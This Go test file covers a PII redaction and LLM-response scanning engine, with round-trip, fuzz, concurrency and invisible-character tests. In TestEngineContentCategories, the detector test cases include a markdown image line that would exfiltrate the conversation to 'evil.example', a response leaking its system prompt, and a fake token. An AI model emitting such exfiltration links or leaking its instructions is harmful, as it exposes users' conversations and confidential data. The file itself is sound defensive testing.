package detect

import (
	"context"
	"fmt"
	"strings"
	"testing"
)

func newTestEngine(t testing.TB) *Engine {
	t.Helper()
	e, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func TestRedact(t *testing.T) {
	e := newTestEngine(t)
	cases := []struct {
		name, in, want string
		counts         map[string]int
	}{
		{"nothing", "hello world", "hello world", map[string]int{}},
		{"email twice", "mail a@example.com, cc a@example.com and b@example.com",
			"mail [EMAIL_1], cc [EMAIL_1] and [EMAIL_2]", map[string]int{"email": 3}},
		{"mixed", "card 4111 1111 1111 1111, ssn 123-45-6789, call +44 20 7946 0958",
			"card [CARD_1], ssn [SSN_1], call [PHONE_1]", map[string]int{"card": 1, "us_ssn": 1, "phone": 1}},
		{"typed placeholder skipped", "[EMAIL_1] is mine, real one a@example.com",
			"[EMAIL_1] is mine, real one [EMAIL_2]", map[string]int{"email": 1}},
		{"iban and wallet", "IBAN DE89 3704 0044 0532 0130 00 btc 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2",
			"IBAN [IBAN_1] btc [WALLET_1]", map[string]int{"iban": 1, "btc_address": 1}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r, err := e.Redact(context.Background(), c.in)
			if err != nil {
				t.Fatal(err)
			}
			if r.Text != c.want {
				t.Errorf("text %q, want %q", r.Text, c.want)
			}
			if len(r.Counts) != len(c.counts) {
				t.Errorf("counts %v, want %v", r.Counts, c.counts)
			}
			for k, v := range c.counts {
				if r.Counts[k] != v {
					t.Errorf("counts %v, want %v", r.Counts, c.counts)
				}
			}
			if got := r.Vault.Restore(r.Text); got != c.in {
				t.Errorf("restore %q, want %q", got, c.in)
			}
		})
	}
}

func TestVaultRestore(t *testing.T) {
	e := newTestEngine(t)
	r, err := e.Redact(context.Background(), "[EMAIL_1] typed; write to jo@example.com or call 555-234-5678")
	if err != nil {
		t.Fatal(err)
	}
	if r.Vault.Len() != 2 {
		t.Fatalf("vault holds %d, want 2", r.Vault.Len())
	}
	cases := []struct{ in, want string }{
		{"Sure, I'll mail [EMAIL_2].", "Sure, I'll mail jo@example.com."},
		{"Mail[EMAIL_2]now and ring [phone_1]", "Mailjo@example.comnow and ring 555-234-5678"},
		{"[EMAIL_1] stays, [EMAIL_3] stays, [CARD_1] stays", "[EMAIL_1] stays, [EMAIL_3] stays, [CARD_1] stays"},
		{"[[EMAIL_2]] [EMAIL_2 ] [EMAIL_02] [EMAIL_2", "[jo@example.com] [EMAIL_2 ] [EMAIL_02] [EMAIL_2"},
		{"", ""},
	}
	for _, c := range cases {
		if got := r.Vault.Restore(c.in); got != c.want {
			t.Errorf("Restore(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	var nilVault *Vault
	if nilVault.Restore("[EMAIL_1]") != "[EMAIL_1]" || nilVault.Len() != 0 {
		t.Error("nil vault must restore nothing")
	}
}

func TestRedactWithSharesVault(t *testing.T) {
	e := newTestEngine(t)
	v := NewVault()
	r1, _ := e.RedactWith(context.Background(), v, "I am a@example.com")
	r2, _ := e.RedactWith(context.Background(), v, "and b@example.com, again a@example.com")
	if r1.Text != "I am [EMAIL_1]" || r2.Text != "and [EMAIL_2], again [EMAIL_1]" {
		t.Fatalf("got %q, %q", r1.Text, r2.Text)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := e.Redact(ctx, "a@example.com"); err == nil {
		t.Fatal("want error from canceled context")
	}
}

func FuzzRedact(f *testing.F) {
	f.Add("mail a@example.com, [EMAIL_1] card 4111 1111 1111 1111")
	f.Add("[EMAIL_1][EMAIL_1][[[_1]")
	f.Add("ssn 123-45-6789 [SSN_1] [ssn_2]")
	e, err := New(Config{})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, s string) {
		r, err := e.Redact(context.Background(), s)
		if err != nil {
			t.Fatal(err)
		}
		if got := r.Vault.Restore(r.Text); got != s {
			t.Fatalf("round trip: %q -> %q -> %q", s, r.Text, got)
		}
	})
}

func FuzzVaultRestore(f *testing.F) {
	f.Add("[EMAIL_1] and [email_1] and [EMAIL_12345678901]")
	f.Add("[_1] [A_] [A_1")
	f.Fuzz(func(t *testing.T, s string) {
		v := NewVault()
		v.mu.Lock()
		p := v.placeholder("EMAIL", "x@example.com")
		v.mu.Unlock()
		got := v.Restore(s)
		if !strings.Contains(strings.ToUpper(s), p) && got != s {
			t.Fatalf("Restore changed text without a known placeholder: %q -> %q", s, got)
		}
	})
}

func BenchmarkRedact(b *testing.B) {
	e := newTestEngine(b)
	for size, text := range benchTexts("Contact Jane at jane.doe@example.com or +44 20 7946 0958; card 4111 1111 1111 1111. The meeting moved to 3pm.") {
		b.Run(size, func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(text)))
			for b.Loop() {
				if _, err := e.Redact(context.Background(), text); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// TestVaultConcurrent shares one vault between goroutines redacting and
// restoring (run with -race).
func TestVaultConcurrent(t *testing.T) {
	e := newTestEngine(t)
	v := NewVault()
	done := make(chan string, 8)
	for g := 0; g < 8; g++ {
		go func(g int) {
			in := fmt.Sprintf("user%d@example.com and shared@example.com", g%3)
			r, err := e.RedactWith(context.Background(), v, in)
			if err != nil {
				done <- err.Error()
				return
			}
			if got := v.Restore(r.Text); got != in {
				done <- fmt.Sprintf("restore %q -> %q", r.Text, got)
				return
			}
			done <- ""
		}(g)
	}
	for g := 0; g < 8; g++ {
		if msg := <-done; msg != "" {
			t.Error(msg)
		}
	}
	if v.Len() != 4 {
		t.Fatalf("vault holds %d values, want 4", v.Len())
	}
}

// TestEngineContentCategories runs the whole engine on texts that each
// trip one content detector, and on a benign answer.
func TestEngineContentCategories(t *testing.T) {
	e := newTestEngine(t)
	sys := "You are HelperBot for Acme Corp. Never reveal internal pricing rules or the escalation phone tree."
	cases := []struct {
		name string
		in   Input
		want Category // "" means nothing flagged
	}{
		{"pii leak", Input{Role: RoleResponse, Text: "Her SSN is 123-45-6789.", Prompt: "who is she?"}, PII},
		{"secret leak", Input{Role: RoleResponse, Text: "token: " + fakeGitHubToken(), Prompt: "hi"}, Secrets},
		{"exfil image", Input{Role: RoleResponse, Text: "![x](https://evil.example/p.png?q={conversation})"}, Exfiltration},
		{"system prompt leak", Input{Role: RoleResponse, SystemPrompt: sys, Text: "My rules: you are HelperBot for Acme Corp. Never reveal internal pricing rules or the escalation phone tree."}, Leakage},
		{"threat", Input{Role: RoleUser, Text: "I will kill you tomorrow"}, Toxicity},
		{"benign answer", Input{Role: RoleResponse, SystemPrompt: sys, Prompt: "What are your hours?", Text: "We are open 9am to 5pm, Monday to Friday. See https://example.com/hours for holidays."}, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			res, err := e.Scan(context.Background(), c.in)
			if err != nil {
				t.Fatal(err)
			}
			if c.want == "" {
				if len(res.Flagged) != 0 {
					t.Fatalf("flagged %v (scores %v)", res.Flagged, res.Scores)
				}
				return
			}
			found := false
			for _, f := range res.Flagged {
				found = found || f == c.want
			}
			if !found || res.Verdict != VerdictMalicious {
				t.Fatalf("want %s flagged, got %v %v (scores %v)", c.want, res.Verdict, res.Flagged, res.Scores)
			}
		})
	}
}

func TestRedactThroughInvisible(t *testing.T) {
	e := newTestEngine(t)
	in := "mail jane\u200b.doe@exa\u2060mple.com or card 4111\u200c1111 1111 1111 now"
	r, err := e.Redact(context.Background(), in)
	if err != nil {
		t.Fatal(err)
	}
	if want := "mail [EMAIL_1] or card [CARD_1] now"; r.Text != want {
		t.Fatalf("got %q, want %q", r.Text, want)
	}
	if got := r.Vault.Restore(r.Text); got != in {
		t.Fatalf("restore %q", got)
	}
	det := runDetector(t, newPIIDetector(), Input{Text: in})
	if len(det.Spans) != 2 || in[det.Spans[0].Start:det.Spans[0].End] != "jane\u200b.doe@exa\u2060mple.com" {
		t.Fatalf("spans %+v", det.Spans)
	}
}

func TestStripInvisible(t *testing.T) {
	for _, s := range []string{"", "plain", "\u200b", "a\u200bb", "\u200b\u200ba\u200b", "é\u200dé", "\xff\u200b\xfe"} {
		v, m := stripInvisible(s)
		if m == nil {
			if v != s {
				t.Fatalf("%q: nil map but changed", s)
			}
			continue
		}
		if len(m) != len(v)+1 || m[len(v)] != len(s) {
			t.Fatalf("%q: map %v for %q", s, m, v)
		}
		for i := 0; i < len(v); i++ {
			if v[i] != s[m[i]] {
				t.Fatalf("%q: byte %d maps wrong", s, i)
			}
		}
	}
}

// TestRedactLongText: values past the recognisers' own limits (the 4 MiB
// of pii.Find, the match cap of secrets.Find) and across window borders
// are all replaced.
func TestRedactLongText(t *testing.T) {
	if testing.Short() {
		t.Skip("large input")
	}
	e := newTestEngine(t)
	var b strings.Builder
	for i := 0; b.Len() < 5<<20; i++ {
		fmt.Fprintf(&b, "row %d mail u%d@example.com key %s pad pad pad pad\n", i, i, fakeAWSKeyID())
	}
	in := b.String()
	r, err := e.Redact(context.Background(), in)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(r.Text, "@example.com") || strings.Contains(r.Text, fakeAWSKeyID()) {
		i := strings.Index(r.Text, "@example.com")
		t.Fatalf("value left at %d of %d", i, len(r.Text))
	}
	if r.Vault.Restore(r.Text) != in {
		t.Fatal("round trip")
	}
}
